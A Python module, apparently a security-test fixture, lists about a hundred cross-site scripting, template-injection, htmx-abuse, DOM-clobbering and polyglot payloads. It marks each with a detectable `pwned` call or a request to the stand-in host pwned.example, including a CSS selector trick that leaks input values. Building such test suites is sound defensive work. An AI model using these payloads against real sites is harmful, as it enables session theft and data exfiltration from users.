"""What tries to become a script, an element or a request when it is shown. Knows no page.

Whatever gets through calls `pwned`, asks the host `pwned.example`, or leaves an element whose
attributes say `pwned`: each can be found. {n} is the payload's number.
"""

HOST = "pwned.example"
WORD = "pwned"

_PAYLOADS = (
    # elements
    "<script>pwned({n})</script>",
    "<SCRIPT SRC=//pwned.example/{n}.js></SCRIPT>",
    "<script src='data:text/javascript,pwned({n})'></script>",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<script\x0ctype=module>import('//pwned.example/{n}.js')</script>",
    "<img src=x onerror=pwned({n})>",
    '<img src="x" onerror="pwned({n})"',
    "<img src=//pwned.example/{n}.png>",
    "<image href=x onerror=pwned({n})>",
    "<body onload=pwned({n})>",
    "<input autofocus onfocus=pwned({n})>",
    "<select autofocus onfocus=pwned({n})>",
    "<textarea autofocus onfocus=pwned({n})>",
    "<details open ontoggle=pwned({n})>pwned",
    "<video><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})></audio>",
    "<marquee onstart=pwned({n})>pwned</marquee>",
    "<iframe src=javascript:parent.pwned({n})></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<object data=//pwned.example/{n}></object>",
    "<embed src=//pwned.example/{n}>",
    "<link rel=stylesheet href=//pwned.example/{n}.css>",
    "<link rel=prefetch href=//pwned.example/{n}>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=//pwned.example/{n}'>",
    "<form action=//pwned.example/{n}><button autofocus>pwned</button></form>",
    "<button formaction=//pwned.example/{n} form=pwned>pwned</button>",
    "<isindex type=image src=x onerror=pwned({n})>",
    "<keygen autofocus onfocus=pwned({n})>",
    "<div style=animation-name:x onanimationstart=pwned({n})>pwned</div>",
    # out of an attribute
    '"><svg onload=pwned({n})>',
    "'><svg onload=pwned({n})>",
    '" autofocus onfocus=pwned({n}) x="',
    "' autofocus onfocus=pwned({n}) x='",
    '" onmouseover=pwned({n}) style="position:fixed;inset:0',
    "x onfocus=pwned({n}) autofocus=",
    "`onfocus=pwned({n}) autofocus `",
    '"/><script>pwned({n})</script>',
    # out of a text or comment
    "</title><script>pwned({n})</script>",
    "</textarea><script>pwned({n})</script>",
    "</script><script>pwned({n})</script>",
    "</style><script>pwned({n})</script>",
    "</template><img src=x onerror=pwned({n})>",
    "--><script>pwned({n})</script>",
    "<!--><img src=x onerror=pwned({n})>-->",
    "]]><img src=x onerror=pwned({n})>",
    '<noscript><p title="</noscript><img src=x onerror=pwned({n})>">',
    # SVG and MathML
    "<svg><script>pwned({n})</script></svg>",
    "<svg><script href=data:text/javascript,pwned({n}) /></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned({n})><text y=20>pwned</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned({n})/>#x'/></svg>",
    "<svg><image href=//pwned.example/{n}.svg></svg>",
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned({n})></style></mglyph></table>"
        "</mtext></math>"
    ),
    "<math href=javascript:pwned({n})>pwned</math>",
    # mutation and templates
    '<svg></p><style><a id="</style><img src=x onerror=pwned({n})>">',
    (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror=pwned({n}) src>">'
    ),
    "<table><td><svg><desc><td><img src=x onerror=pwned({n})>",
    "<template shadowrootmode=open><img src=x onerror=pwned({n})></template>",
    "<x-pwned is=pwned onclick=pwned({n}) tabindex=0 autofocus onfocus=pwned({n})>",
    "{{{{ self.__init__.__globals__ }}}}pwned",
    "{{{{7*7}}}}{{% raw %}}${{7*7}}#{{7*7}}<%= 7*7 %>pwned",
    "{{{{constructor.constructor('pwned({n})')()}}}}",
    # htmx
    "<div data-hx-get=//pwned.example/{n} data-hx-trigger=load>pwned</div>",
    "<div hx-get=/requests hx-trigger=load hx-on::after-request=pwned({n})>pwned</div>",
    "<div data-hx-on:htmx:load=pwned({n}) data-hx-get=/guidance data-hx-trigger=load>pwned</div>",
    '" data-hx-get="//pwned.example/{n}" data-hx-trigger="load" x="',
    '" hx-vals="js:{{a:pwned({n})}}" hx-post="/sign-out" hx-trigger="load',
    "<div hx-ext=pwned hx-disinherit=* hx-trigger='load[pwned({n})]' hx-get=/>pwned</div>",
    '<meta name="htmx-config" content=\'{{"allowEval":true,"selfRequestsOnly":false}}\'>pwned',
    '<div data-print data-module="govuk-button" id=main-content name=pwned>pwned</div>',
    # addresses
    "javascript:pwned({n})",
    "jAvAsCrIpT&colon;pwned({n})",
    "java\tscript:pwned({n})",
    "&#106;avascript:pwned({n})",
    "data:text/html,<script>parent.pwned({n})</script>",
    "vbscript:pwned({n})",
    "//pwned.example/{n}",
    "https:pwned.example/{n}",
    "<a href=javascript:pwned({n})>pwned</a>",
    "<a href=//pwned.example ping=//pwned.example/{n}>pwned</a>",
    "[pwned](javascript:pwned({n}))",
    # entities, encodings and line separators
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned({n})&amp;gt;",
    "&#60;img src=x onerror=pwned({n})&#62;",
    "\\u003cimg src=x onerror=pwned({n})\\u003e",
    "%3Cimg%20src=x%20onerror=pwned({n})%3E",
    "+ADw-script+AD4-pwned({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned({n})\uff1c/script\uff1e",
    "\u2028pwned({n})//\u2029pwned({n})//",
    "\u00bcscript\u00be pwned({n}) \u00bc/script\u00be",
    "';pwned({n})//\\';pwned({n})//\";pwned({n})//",
    "${{pwned({n})}}`${{pwned({n})}}`",
    # clobbering, style sheets, polyglots
    "<form id=pwned><input name=action><input name=attributes><img name=body></form>",
    "<a id=htmx><a id=htmx name=config href=pwned:{n}>",
    "<img name=currentScript src=//pwned.example/{n}><form name=getElementById>",
    "<style>@import '//pwned.example/{n}.css';body{{background:url(//pwned.example/{n})}}</style>",
    '<p style="background:url(//pwned.example/{n})">pwned</p>',
    "<style>input[value^=K]{{background:url(//pwned.example/{n})}}</style>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned({n}) )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned({n})//>\\x3e"
    ),
    "\"'`--></style></textarea></title></script><svg/onload=pwned({n})><!--",
)

PAYLOADS = tuple(payload.format(n=number) for number, payload in enumerate(_PAYLOADS))


def some(start: int, limit: int) -> str:
    """As many payloads as fit into `limit` characters, from number `start` on; "" if none does."""
    kept = ""
    for place in range(len(PAYLOADS)):
        more = PAYLOADS[(start + place) % len(PAYLOADS)]
        if len(kept) + len(more) < limit:
            kept = f"{kept} {more}" if kept else more
    return kept


def all_of_them(start: int) -> str:
    """Every payload in a row, beginning with number `start`: far too long for any field."""
    first = start % len(PAYLOADS)
    return " ".join(PAYLOADS[first:] + PAYLOADS[:first])
